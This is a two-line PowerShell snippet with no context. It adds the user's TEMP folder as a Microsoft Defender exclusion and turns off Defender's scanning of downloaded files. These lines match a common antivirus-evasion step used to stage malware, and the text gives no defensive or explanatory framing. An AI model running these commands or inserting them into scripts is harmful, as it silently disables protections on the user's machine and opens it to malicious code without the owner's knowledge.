Add-MpPreference -ExclusionPath $env:TEMP
Set-MpPreference -DisableIOAVProtection $true
